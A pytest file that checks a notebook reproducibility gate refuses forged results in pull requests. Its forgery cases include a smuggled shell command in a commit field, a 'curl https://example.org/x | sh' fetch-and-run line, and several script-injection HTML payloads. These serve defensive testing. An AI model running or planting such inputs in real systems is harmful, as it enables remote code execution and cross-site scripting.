"""Forged notebooks: what a pull request could change without running anything is refused."""

import copy
import shutil
from pathlib import Path

import pytest

from reproduce import gate, records, store
from reproduce.layout import Layout, dumps, read_notebook, tags, write
from reproduce.plan import declared

LAYOUT = Layout(Path(__file__).parents[1])
SLUG, NAME = "hadamard-softmax", "unbalanced"
VARIANT = declared(LAYOUT)[SLUG][NAME]
STORED = read_notebook(LAYOUT.stored(SLUG, NAME))


def report(nb):
    return next(o for c in nb.cells for o in c.get("outputs", []) if "nclib" in o.metadata)


def cards(nb):
    return [o for c in nb.cells for o in c.get("outputs", []) if "nclib_claim" in o.metadata]


def record(nb):
    return report(nb).metadata["nclib"]


def a_claim(nb, verdict="reproduced", **facts):
    return next(c for c in record(nb)["claims"] if c["verdict"] == verdict
                and all(c[k] == v or (isinstance(v, type) and isinstance(c[k], v))
                        for k, v in facts.items()))


def injected(nb):
    return next(c for c in nb.cells if "injected-parameters" in tags(c))


def against_its_bound(nb):
    claim = a_claim(nb, bound=dict)
    claim["bound"] = {"op": "below", "value": -1.0e9}


def first_html(nb):
    return next(o for o in cards(nb))


FORGED = {
    "a verdict is flipped": lambda nb: a_claim(nb, "not reproduced").update(verdict="reproduced"),
    "a value stands against its bound": against_its_bound,
    "the deciding value is none of the values": lambda nb: a_claim(nb, values=list).update(
        measured=0.123456),
    "an assertion is called reproduced": lambda nb: record(nb)["abstract"][0].update(
        verdict="in part"),
    "the record is of another chapter": lambda nb: record(nb)["run"].update(slug="low-rank-bias"),
    "the record is of another variant": lambda nb: record(nb)["run"].update(variant="k-16"),
    "another seed": lambda nb: record(nb)["run"].update(seed=3),
    "a commit that is none": lambda nb: record(nb)["run"].update(commit="main; curl x | sh"),
    "other parameters": lambda nb: nb.metadata["nclib"].update(parameters={"unbalance": 0.5}),
    "the injected cell does more": lambda nb: injected(nb).update(
        source=injected(nb).source + "\n!curl https://example.org/x | sh"),
    "no injected cell": lambda nb: nb.cells.remove(injected(nb)),
    "a card is missing": lambda nb: nb.cells.remove(next(c for c in nb.cells if any(
        "nclib_claim" in o.metadata for o in c.get("outputs", [])))),
    "a script in the report": lambda nb: report(nb).data.update(
        {"text/html": report(nb).data["text/html"] + "<script>alert(1)</script>"}),
    "a handler in a card": lambda nb: first_html(nb).data.update(
        {"text/html": '<div onclick="alert(1)">x</div>'}),
    "a link that runs": lambda nb: first_html(nb).data.update(
        {"text/html": '<a href="javascript:alert(1)">x</a>'}),
    "a frame": lambda nb: first_html(nb).data.update({"text/html": "<iframe></iframe>"}),
    "a style that loads": lambda nb: first_html(nb).data.update(
        {"text/html": '<p style="background:url(https://example.org)">x</p>'}),
    "JavaScript as an output": lambda nb: first_html(nb).data.update(
        {"application/javascript": "alert(1)"}),
    "a picture that is no PNG": lambda nb: first_html(nb).data.update({"image/png": "PHN2Zz4="}),
}
RENDERED = {
    "a card says another verdict": lambda nb: first_html(nb).data.update({"text/html": first_html(
        nb).data["text/html"].replace("reproduced", "confirmed")}),
    "the report shows another number": lambda nb: report(nb).data.update(
        {"text/html": report(nb).data["text/html"].replace("of", "OF", 1)}),
    "another device in the record": lambda nb: record(nb)["run"].update(device="NVIDIA H100"),
    "other text in a card": lambda nb: first_html(nb).data.update({"text/plain": "all is well"}),
}


def test_the_stored_notebook_is_believed():
    assert gate.faults(VARIANT, STORED) == []


def test_stored_notebooks_are_whole():
    faulty = {r.label: [r.status, *r.details] for r in store.check_stored(LAYOUT) if not r.ok}
    assert not faulty


@pytest.mark.parametrize("fault", FORGED)
def test_forged(fault):
    nb = copy.deepcopy(STORED)
    FORGED[fault](nb)
    assert dumps(nb) != dumps(STORED)
    assert gate.faults(VARIANT, nb)


@pytest.mark.parametrize("fault", RENDERED)
def test_cards_and_report_are_rendered_anew(fault, tmp_path):
    """`check` compares with what the record gives."""
    book = Layout(tmp_path)
    for name in ("works.yml", "variants.yml", f"{SLUG}.ipynb"):
        (tmp_path / "chapters").mkdir(exist_ok=True)
        shutil.copy2(LAYOUT.chapters / name, tmp_path / "chapters" / name)
    nb = copy.deepcopy(STORED)
    RENDERED[fault](nb)
    assert dumps(nb) != dumps(STORED)
    write(book.stored(SLUG, NAME), dumps(nb))
    row = next(r for r in store.check_stored(book) if r.label == VARIANT.label)
    assert not row.ok and "not as stored" in row.details[-1]


def test_what_was_not_run_has_no_value():
    nb = copy.deepcopy(STORED)
    claim = a_claim(nb)
    claim.update(verdict="not run")
    assert any(claim["id"] in fault for fault in gate.faults(VARIANT, nb))
    claim.update(measured=None, bound=None, values=None, spread=None)
    assert not any(f.startswith(f"{claim['id']}:") for f in gate.faults(VARIANT, nb))


def test_a_verdict_is_that_of_all_values():
    claim = a_claim(STORED, bound=dict, kind="theory") | {
        "bound": {"op": "below", "value": 1.0}, "measured": 0.5, "values": None, "spread": None,
        "rival": None,
    }
    assert records.holds(claim)
    assert not records.holds(claim | {"values": [0.5, 2.0]})
    assert not records.holds(claim | {"spread": [0.1, 0.5, 1.5]})
    assert not records.holds(claim | {"rival": {"name": "noise", "value": [0.9]}})
    assert not records.holds(claim | {"measured": "nan"})


def test_parameters_stand_in_the_order_of_the_runner():
    cell, = gate._injected({"weight_decay": 5e-4, "epochs": 1000})
    assert cell.index("epochs = 1000") < cell.index("weight_decay = 0.0005")
